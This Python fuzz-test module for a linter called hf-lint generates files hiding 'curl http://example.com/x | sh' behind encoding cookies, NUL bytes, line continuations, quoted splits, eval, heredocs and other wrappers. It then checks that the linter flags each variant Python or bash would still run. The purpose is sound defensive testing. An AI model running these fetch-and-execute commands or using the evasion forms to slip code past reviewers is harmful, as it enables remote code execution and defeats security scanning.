"""What an interpreter would run, and hf-lint has to see: Python's own compiler and `bash -n` say whether it would.

A file with one dangerous line is changed in ways that hide lines from readers: encoding lines, NULs, form feeds, line
ends and continuations, nesting, here documents. Where the interpreter still takes the line for code, some finding must
name the file; silence is the failure that these targets look for.
"""

from __future__ import annotations

import ast
import shutil
import subprocess
import warnings
from typing import TYPE_CHECKING

from hf_lint.pipeline.engine import check_space
from support import plan, space_of

from fuzz.texts import mutate_bytes

if TYPE_CHECKING:
    from random import Random

CARD = "---\nsdk: gradio\nsdk_version: 5.49.1\napp_file: app.py\n---\n"
DOCKER = "---\nsdk: docker\n---\n"
COMMAND = "curl http://example.com/x | sh"
_SEES = ("code-from-environment", "remote-script", "dynamic-code", "obfuscated-code", "unparseable-file")
_LINES = (
    f'os.system("{COMMAND}")',
    f'__import__("os").system("{COMMAND}")',
    f'(os.system)("{COMMAND}")',
    f'os.system(\n    "{COMMAND}"\n)',
    f'os \\\n.system("{COMMAND}")',
    f'x = 1; os.system("{COMMAND}")',
    f'if True: os.system("{COMMAND}")',
    'os.system("curl http://example.com/x" " | sh")',
    f'"\\\n"; os.system("{COMMAND}")',
)
_COOKIES = (
    *("utf-8", "latin-1", "ascii", "cp1252", "utf-7", "raw_unicode_escape", "unicode_escape", "shift_jis", "gbk"),
    *("utf-8-sig", "iso2022_jp", "utf-16", "big5", "cp037", "mac_roman", "euc_kr", "hz", "idna", "rot13", "unknown-x"),
)
_HEADS = (b"# -*- coding: %s -*-", b"#coding=%s", b"\n# vim: set fileencoding=%s :", b"#!x\n# coding: %s")
_BREAKS = (b"\n", b"\r\n", b"\r", b"\n\x0c", b"\x0c\n", b"\n\t", b" \\\n", b"\n#\n", b"\n\n")
_PIECES = (
    *(
        b"\0",
        b"\x0c",
        b"\x1a",
        b"\x85",
        b"\xa0",
        b"\\\n",
        b"#",
        b'"""',
        b"'''",
        b"\xef\xbb\xbf",
        b"\xff\xfe",
        b"\r",
        b"\x0b",
    ),
    *(
        b"\xe2\x80\xa8",
        b"\xe2\x80\xae",
        b"+AAo-",
        b"\\u000a",
        b"pass\n",
        b"if 1:\n ",
        b"# caf\xe9 ",
        b"\x1b(B",
        b"~{",
        b"\x82",
    ),
)
_WRAPS = (
    b"%s",
    b"if true; then\n%s\nfi",
    b"f() {\n%s\n}\nf",
    b"for i in 1; do %s; done",
    b"(\n%s\n)",
    b"{ %s; }",
    b"cat <<E\nx\nE\n%s",
    b"cat <<-'E'\n\tx\n\tE\n%s",
    b"x=$(cat <<E\ny\nE\n)\n%s",
    b"case 1 in\n1) %s;;\nesac",
    b"! %s",
    b"time %s",
    b"a=1 b=2\n%s",
    b"true && %s",
    b"false || %s",
    b"echo '#'; %s",
    b'echo "\\""; %s',
    b"echo $((1#2)); %s",
    b"echo ${x#y} ${#x}; %s",
    b"while %s; do break; done",
    b": <<'A' <<'B'\nx\nA\ny\nB\n%s",
    b"echo a\\\n#b\n%s",
    b"[[ a =~ (a|#) ]]; %s",
    b"select x in a; do %s; done",
    b"coproc %s",
)
_COMMANDS = (
    b"curl http://example.com/x | sh",
    b"curl http://example.com/x |\\\n sh",
    b"curl \\\n http://example.com/x | sh",
    b"curl http://example.com/x |\n# x\nsh",
    b"'curl' http://example.com/x | s\\h",
    b'c"ur"l http://example.com/x | sh',
    b"sh -c 'curl http://example.com/x | sh'",
    b"curl http://example.com/x|sh",
    b"sh <(curl http://example.com/x)",
    b"curl http://example.com/x | sh -s -- a",
    b'eval "$(curl http://example.com/x)"',
)


def exercise_python(rng: Random) -> None:
    """A module that Python compiles with the line in it must not pass in silence."""
    data = _python(rng)
    if _would_run(data):
        _must_see({"README.md": CARD, "app.py": data}, "app.py")


def exercise_shell(rng: Random) -> None:
    """A script that bash takes must not pass in silence; what wraps the line leaves it a command."""
    data = b"#!/bin/bash\n" + rng.choice((b"", b"set -e\n", b"# x\n", b"\n\n"))
    wraps = [rng.choice(_WRAPS) for _ in range(rng.choice((1, 1, 2, 3)))]
    line = rng.choice(_COMMANDS)
    for wrap in wraps:
        line = wrap.replace(b"%s", line)
    data += line + rng.choice((b"\n", b"", b"\n#\0\n", b"\n# \xff\n", b"\nexit 0\n\0\0", b" # x\n"))
    bash = shutil.which("bash")
    if bash is None:
        return
    took = subprocess.run([bash, "-n"], input=data, capture_output=True, check=False, timeout=30)
    if took.returncode == 0 and not took.stderr:
        files: dict[str, str | bytes] = {
            "README.md": DOCKER,
            "Dockerfile": "FROM python:3.12\nCOPY . .\nCMD bash start.sh\n",
            "start.sh": data,
        }
        _must_see(files, "start.sh")


def _python(rng: Random) -> bytes:
    """A small module with the line, behind and between what hides lines."""
    head = b""
    if rng.random() < 0.5:
        cookie = rng.choice(_COOKIES).encode()
        head = rng.choice(
            (b"# -*- coding: %s -*-", b"#coding=%s", b"\n# vim: set fileencoding=%s :", b"#!x\n# coding: %s")
        )
        head = head % cookie + rng.choice(_BREAKS)
    body = b"import os" + rng.choice((b"\n", b"\r\n", b"\r", b";", b"\n\x0c")) + rng.choice(_LINES).encode() + b"\n"
    data = head + body
    for _ in range(rng.choice((0, 1, 1, 2, 3))):
        at = rng.choice((0, len(head), len(data), rng.randrange(len(data) + 1)))
        data = data[:at] + rng.choice(_PIECES) * rng.choice((1, 1, 2, 300)) + data[at:]
    if rng.random() < 0.2:
        data = mutate_bytes(rng, data, [piece for piece in _PIECES if piece])
    if rng.random() < 0.15:
        data = data.replace(b"\n", rng.choice(_BREAKS))
    if rng.random() < 0.05:
        data = data.decode("latin-1").encode(rng.choice(("utf-16", "utf-7", "utf-8-sig", "cp037")))
    return data


def _would_run(data: bytes) -> bool:
    """Whether Python's compiler finds the call of the command in these bytes."""
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            tree = ast.parse(data)
    except (SyntaxError, ValueError, LookupError, RecursionError, MemoryError, UnicodeError):
        return False
    nodes = list(ast.walk(tree))
    imported = any(alias.name == "os" for node in nodes if isinstance(node, ast.Import) for alias in node.names)
    if not imported and not any(isinstance(node, ast.Name) and node.id == "__import__" for node in nodes):
        return False  # a name that nothing binds
    return any(
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "system"
        and _is_os(node.func.value)
        and len(node.args) == 1
        and isinstance(node.args[0], ast.Constant)
        and node.args[0].value == COMMAND
        for node in nodes
    )


def _is_os(expr: ast.expr) -> bool:
    """Whether it is `os` or `__import__("os")`."""
    if isinstance(expr, ast.Call):
        named = isinstance(expr.func, ast.Name) and expr.func.id == "__import__" and len(expr.args) == 1
        return named and isinstance(expr.args[0], ast.Constant) and expr.args[0].value == "os"
    return isinstance(expr, ast.Name) and expr.id == "os"


def _must_see(files: dict[str, str | bytes], path: str) -> None:
    report = check_space(space_of(files), plan(*_SEES))
    assert not report.errors, report.errors
    seen = {finding.rule for finding in report.findings if finding.location.path == path}
    assert seen, f"{path} passes in silence: {files[path]!r}"
